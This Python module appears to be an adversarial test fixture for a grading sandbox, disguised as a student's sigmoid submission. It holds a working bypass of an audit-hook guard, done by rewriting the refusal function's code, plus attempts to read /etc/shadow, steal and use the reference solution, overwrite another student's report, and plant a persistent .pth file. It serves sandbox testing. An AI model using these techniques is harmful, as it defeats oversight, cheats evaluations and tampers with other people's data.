"""Switches the worker's guard off from pure Python, then goes for everything at once.

The guard's refusal function is reachable from a refused call's traceback: the audit
hook's frame holds it in its locals. Giving it the code of a function that does nothing
switches the guard off. Then this module tries to read the reference sigmoid (and use
it: sigmoid's points if that works), to write over another student's report, and to
plant a .pth file in the grader's environment that would run on every later grader call.
Only kernel walls can stop any of it; with them, sigmoid.py earns nothing. sigmoid_grad
says what happened in its error message.
"""
import os

import numpy as np

SOLUTIONS = "@SOLUTIONS@"
REPORTS = "@REPORTS@"


def _switch_off_the_guard():
    try:
        open("/etc/shadow")
    except PermissionError as refused:
        tb = refused.__traceback__
        while tb is not None:
            refuse = tb.tb_frame.f_locals.get("_refuse")
            if refuse is not None:
                refuse.__code__ = (lambda *args, **kwargs: None).__code__
                refuse.__defaults__ = None
                return True
            tb = tb.tb_next
    return False


def _attempt(action):
    try:
        action()
        return True
    except Exception:
        return False


def _read_reference():
    space = {}
    with open(os.path.join(SOLUTIONS, "sigmoid.py"), encoding="utf-8") as stream:
        exec(compile(stream.read(), "reference", "exec"), space)
    return space


def _rewrite_a_report():
    with open(os.path.join(REPORTS, "clean.json"), "w", encoding="utf-8") as stream:
        stream.write('{"score": 0}')


def _plant_a_pth():
    site = os.path.dirname(os.path.dirname(np.__file__))
    with open(os.path.join(site, "zz_backprop_planted.pth"), "w", encoding="utf-8") as stream:
        stream.write("import os; os.environ['PLANTED'] = '1'\n")


DONE = {"guard off": _switch_off_the_guard()}
_REFERENCE = {}
DONE["reference read"] = _attempt(lambda: _REFERENCE.update(_read_reference()))
DONE["report rewritten"] = _attempt(_rewrite_a_report)
DONE["pth planted"] = _attempt(_plant_a_pth)


def sigmoid(z):
    if "sigmoid" in _REFERENCE:
        return _REFERENCE["sigmoid"](z)
    return np.zeros_like(np.asarray(z, dtype=float)) + 0.5


def sigmoid_grad(z):
    # What happened, for the instructor's eyes (and the grader's tests) in the report.
    raise ValueError("; ".join("%s: %s" % item for item in DONE.items()))
